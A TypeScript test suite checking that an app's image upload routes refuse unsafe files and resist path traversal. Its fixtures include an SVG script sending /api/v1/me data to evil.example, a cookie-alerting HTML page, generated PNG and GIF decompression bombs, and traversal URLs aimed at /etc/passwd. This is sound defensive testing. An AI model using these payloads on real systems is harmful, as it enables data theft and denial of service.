import fs from 'node:fs/promises';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  PHOTO_RULES,
  PROFILE_PICTURE_RULES,
  uploadMessages,
} from '@scanorder/shared/validation/upload-rules';
import { createTestApp, databaseKinds, TestClient, type TestApp } from '../harness.ts';
import { pngImage, uploadFile } from '../uploads.ts';
import { snapshotAccount } from './tenant-snapshot.ts';
import { createTenant, type Tenant } from './tenant-world.ts';

const UNSUPPORTED = {
  code: 'UNSUPPORTED_MEDIA_TYPE',
  message: PROFILE_PICTURE_RULES.unsupportedType,
};
const PHOTO_UNSUPPORTED = { code: 'UNSUPPORTED_MEDIA_TYPE', message: PHOTO_RULES.unsupportedType };
const TOO_MANY_PIXELS = { code: 'UNSUPPORTED_MEDIA_TYPE', message: uploadMessages.tooManyPixels };
const TOO_LARGE = { code: 'PAYLOAD_TOO_LARGE', message: 'File Size is too Large!' };

/** A PNG chunk: length, type, data, CRC-32 of type and data. */
function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  let crc = 0xffffffff;
  for (const byte of body) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE((crc ^ 0xffffffff) >>> 0);
  return Buffer.concat([length, body, checksum]);
}

/**
 * An image bomb: a valid PNG header declaring 50,000 x 50,000 grey pixels (2.5 gigapixels, 2.5 GB
 * decoded) whose compressed rows of zeros fit in a few kilobytes.
 */
function pngBomb(side = 50_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  const rows = Buffer.alloc((side + 1) * 64); // 64 rows of filter byte 0 and zeros
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A GIF whose logical screen and only frame claim 65,535 x 65,535 pixels. */
function gifBomb(): Buffer {
  const screen = Buffer.from([0xff, 0xff, 0xff, 0xff, 0x80, 0x00, 0x00, 0, 0, 0, 255, 255, 255]);
  const frame = Buffer.from([
    0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00,
  ]);
  return Buffer.concat([Buffer.from('GIF89a', 'ascii'), screen, frame, Buffer.from([0x3b])]);
}

const SVG_WITH_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(1)">' +
    '<script>fetch("/api/v1/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>' +
    '<rect width="64" height="64" fill="red"/></svg>',
);
const HTML_PAGE = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
);
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)]);

interface Outcome {
  status: number;
  error?: { code: string; message: string };
}

interface Case extends Outcome {
  name: string;
  filename: string;
  content: () => Promise<Buffer> | Buffer;
  contentType: string;
  /**
   * What the photo routes (logos, menu items: 10 MB, also WebP) answer when it differs from the
   * profile picture's (docs/product/fields.md: 1,000,000 bytes, png/jpg/jpeg/gif); 'accepted' leaves them out.
   */
  photo?: Outcome | 'accepted';
}

const CASES: Case[] = [
  {
    name: 'an oversized file (1,000,001 bytes)',
    filename: 'big.png',
    content: async () => Buffer.concat([await pngImage(32, 32), Buffer.alloc(1_000_001)]),
    contentType: 'image/png',
    status: 413,
    error: TOO_LARGE,
    photo: 'accepted',
  },
  {
    name: 'a much larger file (5 MB)',
    filename: 'huge.jpg',
    content: () => Buffer.alloc(5_000_000, 0xff),
    contentType: 'image/jpeg',
    status: 413,
    photo: { status: 415, error: PHOTO_UNSUPPORTED },
  },
  {
    name: 'a file over the photo limit (10 MB and 1 byte)',
    filename: 'IMG_0042.jpg',
    content: () => Buffer.alloc(10 * 1024 * 1024 + 1, 0xff),
    contentType: 'image/jpeg',
    status: 413,
    error: TOO_LARGE,
  },
  {
    name: 'an iPhone HEIC photo (this server cannot read HEVC)',
    filename: 'IMG_0042.HEIC',
    content: () => pngImage(32, 32),
    contentType: 'image/heic',
    status: 415,
    error: UNSUPPORTED,
    photo: {
      status: 415,
      error: { code: 'UNSUPPORTED_MEDIA_TYPE', message: uploadMessages.heicUnsupported },
    },
  },
  {
    name: 'a PNG bomb inside the photo size limit, named .jpg (its content is sniffed)',
    filename: 'IMG_0042.jpg',
    content: () => pngBomb(30_000),
    contentType: 'image/jpeg',
    status: 415,
    error: TOO_MANY_PIXELS,
  },
  {
    name: 'a PDF',
    filename: 'menu.pdf',
    content: () => PDF,
    contentType: 'application/pdf',
    status: 415,
    error: UNSUPPORTED,
  },
  {
    name: 'a real PNG named .txt',
    filename: 'notes.txt',
    content: () => pngImage(32, 32),
    contentType: 'text/plain',
    status: 415,
    error: UNSUPPORTED,
  },
  {
    name: 'a file without an extension',
    filename: 'logo',
    content: () => pngImage(32, 32),
    contentType: 'image/png',
    status: 415,
    error: UNSUPPORTED,
  },
  {
    name: 'an HTML page named .png and sent as image/png',
    filename: 'photo.png',
    content: () => HTML_PAGE,
    contentType: 'image/png',
    status: 415,
    error: UNSUPPORTED,
  },
  {
    name: 'a PDF named .jpg',
    filename: 'photo.jpg',
    content: () => PDF,
    contentType: 'image/jpeg',
    status: 415,
    error: UNSUPPORTED,
  },
  {
    name: 'an executable named .gif',
    filename: 'photo.gif',
    content: () => ELF,
    contentType: 'image/gif',
    status: 415,
    error: UNSUPPORTED,
  },
  {
    name: 'a WebP named .png (a real image, not an accepted type)',
    filename: 'photo.png',
    content: async () =>
      sharp(await pngImage(32, 32))
        .webp()
        .toBuffer(),
    contentType: 'image/png',
    status: 415,
    error: UNSUPPORTED,
    photo: 'accepted',
  },
  {
    name: 'an SVG with a script',
    filename: 'logo.svg',
    content: () => SVG_WITH_SCRIPT,
    contentType: 'image/svg+xml',
    status: 415,
    error: UNSUPPORTED,
  },
  {
    name: 'an SVG with a script named .png',
    filename: 'logo.png',
    content: () => SVG_WITH_SCRIPT,
    contentType: 'image/png',
    status: 415,
    error: UNSUPPORTED,
  },
  {
    name: 'a PNG bomb declaring 50,000 x 50,000 pixels',
    filename: 'bomb.png',
    content: () => pngBomb(),
    contentType: 'image/png',
    status: 415,
    error: TOO_MANY_PIXELS,
  },
  {
    name: 'a GIF bomb declaring 65,535 x 65,535 pixels',
    filename: 'bomb.gif',
    content: () => gifBomb(),
    contentType: 'image/gif',
    status: 415,
    error: TOO_MANY_PIXELS,
  },
  {
    name: 'an empty file',
    filename: 'empty.png',
    content: () => Buffer.alloc(0),
    contentType: 'image/png',
    status: 415,
    error: UNSUPPORTED,
  },
];

async function filesUnder(dir: string): Promise<string[]> {
  const entries = await fs.readdir(dir, { recursive: true }).catch(() => [] as string[]);
  const files: string[] = [];
  for (const entry of entries.map(String)) {
    if ((await fs.stat(path.join(dir, entry))).isFile()) files.push(entry);
  }
  return files.sort();
}

describe.each(databaseKinds)('uploads refuse what is not a safe image on %s', (kind) => {
  let test: TestApp;
  let owner: Tenant;
  let targets: string[];
  const PROFILE = '/api/v1/profile/picture';

  beforeAll(async () => {
    test = await createTestApp(kind);
    owner = await createTenant(test, 'Upload');
    targets = [
      '/api/v1/businesses/restaurant/logo',
      '/api/v1/businesses/grocery/logo',
      PROFILE,
      `/api/v1/businesses/restaurant/menu-items/${owner.kinds.restaurant.itemId}/image`,
      `/api/v1/businesses/grocery/menu-items/${owner.kinds.grocery.itemId}/image`,
    ];
  }, 120_000);
  afterAll(() => test.close());

  it.each(CASES.map((entry) => [entry.name, entry] as const))(
    'refuses %s on every upload route and stores nothing',
    async (_name, entry) => {
      const uploads = path.join(test.dataDir, 'uploads');
      const filesBefore = await filesUnder(uploads);
      const before = await snapshotAccount(test.deps.database.db, owner.accountId);
      const content = await entry.content();
      for (const url of targets) {
        // Photo routes name their own types in the same refusal.
        const photoDefault = {
          ...entry,
          error: entry.error === UNSUPPORTED ? PHOTO_UNSUPPORTED : entry.error,
        };
        const expected: Outcome | 'accepted' =
          url === PROFILE ? entry : (entry.photo ?? photoDefault);
        if (expected === 'accepted') continue;
        const response = await uploadFile(
          owner.client,
          url,
          entry.filename,
          content,
          entry.contentType,
        );
        expect(response.statusCode, `${url}: ${response.body}`).toBe(expected.status);
        if (expected.error) expect(response.json().error, url).toMatchObject(expected.error);
      }
      expect(await filesUnder(uploads)).toEqual(filesBefore);
      expect(await snapshotAccount(test.deps.database.db, owner.accountId)).toEqual(before);
    },
  );

  it('re-encodes an accepted image as WebP and serves it inert (nosniff, no script types)', async () => {
    for (const url of targets) {
      const response = await uploadFile(owner.client, url, 'real.png', await pngImage(400, 300));
      expect(response.statusCode, `${url}: ${response.body}`).toBe(200);
      const stored = /"(\/uploads\/[^"]+)"/.exec(response.body)?.[1];
      expect(stored, url).toMatch(/\.webp$/);
      const served = await new TestClient(test.app).get(stored!);
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect((await sharp(served.rawPayload).metadata()).format).toBe('webp');
    }
  });

  it('serves nothing but stored images from /uploads', async () => {
    const anonymous = new TestClient(test.app);
    for (const url of [
      '/uploads/',
      '/uploads/../package.json',
      '/uploads/%2e%2e/%2e%2e/etc/passwd',
      '/uploads/..%2f..%2fetc%2fpasswd',
      `/uploads/${owner.accountId}/restaurant/x.svg`,
      `/uploads/${owner.accountId}/restaurant/x.html`,
    ]) {
      const response = await anonymous.get(url);
      expect(response.statusCode, url).toBe(404);
      expect(response.body, url).not.toContain('root:');
    }
  });
});
